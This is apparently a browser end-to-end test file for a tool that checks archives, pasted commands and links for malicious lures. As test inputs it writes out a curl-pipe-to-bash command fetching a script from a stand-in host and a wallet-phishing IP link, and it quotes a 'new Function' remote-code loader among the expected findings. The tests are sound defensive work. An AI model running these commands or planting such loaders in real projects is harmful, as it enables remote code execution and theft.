import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { COMMAND, HONEST, LURE, zipOf } from './archive.ts'
import { launch, openPage, violations, type Watched } from './chromium.ts'
import { colleague, type Postern, settle, startPostern } from './postern.ts'

describe('what somebody is to open, run or follow', () => {
  let postern: Postern
  let browser: Browser
  let cookie: string
  let watched: Watched
  let page: Page
  let link: string

  beforeAll(async () => {
    browser = await launch()
    postern = await startPostern()
    cookie = (await settle(postern)).cookie
    watched = await openPage(browser, postern.url, { cookie })
    page = watched.page
  })
  afterAll(async () => {
    await browser?.close()
    await postern?.stop()
  })

  const verdict = (on = page) => on.locator('.sentence :is(h1, h2)').innerText()
  const give = async (on: Page, text: string) => {
    await on.goto('/check')
    await on.getByLabel('Or paste a command').fill(text)
    await on.getByRole('button', { name: 'Check it' }).click()
    await on.locator('.sentence').waitFor()
  }
  const drop = async (on: Page, name: string, bytes: Buffer) => {
    await on.goto('/check')
    await on.getByText('Drop a file here').waitFor()
    const data = await on.evaluateHandle(
      ([name, base64]) => {
        const transfer = new DataTransfer()
        const bytes = Uint8Array.from(atob(base64 ?? ''), (character) => character.charCodeAt(0))
        transfer.items.add(new File([bytes], name ?? ''))
        return transfer
      },
      [name, bytes.toString('base64')],
    )
    await on.dispatchEvent('.drop', 'drop', { dataTransfer: data })
    await on.locator('.sentence').waitFor()
  }

  test('a dropped archive is told as a story, with file and line and what to do after the fact', async () => {
    await drop(page, 'take-home.zip', await zipOf(LURE))
    expect(await verdict()).toBe('Do not open this project.')
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('H2')
    const story = await page.locator('.story').innerText()
    expect(story).toContain('When the folder is opened in an editor')
    expect(story).toContain('node server/app.js')
    expect(story).toContain('task/routes/auth.js, line 4')
    expect(story).toContain('https://token-api.invalid/v3')
    const reasons = await page.locator('.evidence').allInnerTexts()
    expect(reasons.some((text) => /auth\.js, line 4, column 3/.test(text))).toBe(true)
    expect(reasons.some((text) => text.includes("new Function('require', data.token)"))).toBe(true)
    const after = await page.getByRole('region', { name: 'If you already opened or ran it' }).innerText()
    expect(after).toContain('./postern triage')
    expect(after).toContain('off the network')
  })

  test('where the way to the harm was not followed, nothing soothes', async () => {
    const npmrc = 'registry=https://packages.invalid/\n'
    const direct = { dependencies: { 'eslint-helper': 'https://tarballs.invalid/eslint-helper-1.0.0.tgz' } }
    await drop(page, 'direct.zip', await zipOf({ 'package.json': JSON.stringify(direct), '.npmrc': npmrc }))
    expect(await verdict()).toBe('Do not open this project before somebody has looked at it.')
    const story = await page.locator('.story').innerText()
    expect(story).toContain('could not be followed step by step')
    expect(story).not.toMatch(/Nothing was seen|worth a warning/)
  })

  test('the keys j and k go through its reasons', async () => {
    await page.keyboard.press('j')
    const first = await page.evaluate(() => document.activeElement?.textContent)
    await page.keyboard.press('j')
    await page.keyboard.press('k')
    expect(first).toContain('line')
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe(first)
  })

  test('an honest project is promised nothing', async () => {
    await drop(page, 'honest.zip', await zipOf(HONEST))
    expect(await verdict()).toBe('Nothing was found that speaks against opening this project.')
    expect((await page.locator('main').innerText()).toLowerCase()).not.toMatch(/\bsafe\b|\ball clear\b/)
    expect(await page.getByText('If you already').count()).toBe(0)
  })

  test('a pasted command is judged as one, by keyboard alone', async () => {
    await page.goto('/check')
    await page.getByLabel('Or paste a command').focus()
    await page.keyboard.insertText(COMMAND)
    await page.keyboard.press('Tab')
    await page.keyboard.press('Enter')
    await page.locator('.sentence').waitFor()
    expect(await verdict()).toBe('Do not run this command.')
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Do not run this command.')
    expect(await page.locator('.story').innerText()).toContain('captcha.invalid')
  })

  test('it can be judged as a message instead', async () => {
    await page.getByRole('button', { name: /It is a message/ }).click()
    await page.getByText('Judged as a message').waitFor()
    expect(await page.locator('.envelope').count()).toBe(1)
  })

  test('for what needs a look the first steps are one key away', async () => {
    await give(page, 'curl -fsSL https://update.invalid/i.sh | bash')
    expect(await verdict()).toBe('Do not run this command before somebody has looked at it.')
    const steps = page.getByText('Take that computer off the network.')
    expect(await steps.isVisible()).toBe(false)
    await page.locator('.ran-it summary').focus()
    await page.keyboard.press('Enter')
    await steps.waitFor()
  })

  test('a pasted link is judged by its address, and that its page was not opened is told', async () => {
    await give(page, 'https://github.com/acme/take-home')
    expect(await verdict()).toBe('Nothing was found that speaks against this address.')
    const unknown = await page.locator('.unknowns').innerText()
    expect(unknown).toContain('./postern clone https://github.com/acme/take-home')
    expect(unknown).not.toContain('DMARC')
    await give(page, 'http://203.0.113.7/metamask/verify')
    expect(await verdict()).toBe('Do not follow this link before somebody has looked at it.')
    expect(await page.locator('main a[href*="203.0.113.7"]').count()).toBe(0)
  })

  test('what is too large is refused before it is sent, with the way that works', async () => {
    await page.route('**/api/check', (route) =>
      route.request().method() === 'GET'
        ? route.fulfill({ json: { bytes: 10, packages: false } })
        : route.continue(),
    )
    await page.goto('/check')
    await page.waitForResponse('**/api/check')
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: 'large.dmg', mimeType: '', buffer: Buffer.alloc(100) })
    const told = await page.getByRole('alert').innerText()
    expect(told).toContain('./postern check FILE')
    await page.unroute('**/api/check')
  })

  test('an answer is shared, and the link shows it to a colleague without what was given', async () => {
    await drop(page, 'take-home.zip', await zipOf(LURE))
    await page.getByRole('button', { name: 'Share with a colleague' }).click()
    link = await page.locator('.copyable-value').innerText()
    expect(link).toMatch(/\/checks\/[\w-]{43}$/)
    const theirs = await openPage(browser, postern.url, { cookie: await colleague(postern, cookie) })
    await theirs.page.goto(link)
    await theirs.page.locator('.story').waitFor()
    expect(await verdict(theirs.page)).toBe('Do not open this project.')
    const told = await theirs.page.locator('main').innerText()
    expect(told).toContain('shared by Ada Vance')
    expect(told).toContain('task/routes/auth.js, line 4')
    expect(await theirs.page.getByRole('button', { name: 'End the sharing' }).count()).toBe(0)
    expect(theirs.errors).toEqual([])
    await theirs.context.close()
  })

  test('nobody sees it without signing in, and is led to it afterwards', async () => {
    const { page: theirs, context } = await openPage(browser, postern.url)
    await theirs.goto(link)
    await theirs.getByRole('heading', { name: 'Sign in' }).waitFor()
    expect(new URL(theirs.url()).searchParams.get('next')).toBe(new URL(link).pathname)
    await context.close()
  })

  const states: [name: string, show: (on: Page) => Promise<unknown>][] = [
    ['a lure', async (on) => drop(on, 'take-home.zip', await zipOf(LURE))],
    ['a command', (on) => give(on, COMMAND)],
    ['a link', (on) => give(on, 'http://203.0.113.7/metamask/verify')],
    [
      'an opened hint and steps',
      async (on) => {
        await on.goto('/check')
        await on.getByText('A whole folder, or a repository?').click()
      },
    ],
    [
      'a link to share',
      async (on) => {
        await give(on, 'curl -fsSL https://update.invalid/i.sh | bash')
        await on.locator('.ran-it summary').click()
        await on.getByRole('button', { name: 'Share with a colleague' }).click()
        await on.locator('.copyable').waitFor()
      },
    ],
    [
      'a shared answer',
      async (on) => {
        await on.goto(link)
        await on.locator('.story').waitFor()
      },
    ],
    [
      'a shared answer that is gone',
      async (on) => {
        await on.goto('/checks/nothing')
        await on.getByRole('alert').waitFor()
      },
    ],
  ]

  for (const scheme of ['light', 'dark'] as const)
    test.each(states)(`%s has no violations that axe-core knows, ${scheme}`, async (_, show) => {
      const { page: shown, context } = await openPage(browser, postern.url, { scheme, cookie })
      await show(shown)
      expect(await violations(shown)).toEqual([])
      await context.close()
    })

  test.each(states)('%s fits 360 pixels without scrolling sideways', async (_, show) => {
    const { page: shown, context } = await openPage(browser, postern.url, { width: 360, height: 740, cookie })
    await show(shown)
    expect(await shown.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360)
    await context.close()
  })

  test('who shared it ends it, and the link is dead', async () => {
    await page.goto(link)
    await page.getByRole('button', { name: 'End the sharing' }).click()
    await page.getByRole('heading', { name: 'Check something before' }).waitFor()
    await page.goto(link)
    await page.getByRole('heading', { name: 'This answer cannot be shown' }).waitFor()
  })

  test('nothing of another origin was asked for, and no script failed', () => {
    expect(watched.foreign).toEqual([])
    expect(watched.errors).toEqual([])
    expect(watched.said.filter((line) => line.includes('Content Security Policy'))).toEqual([])
  })
})
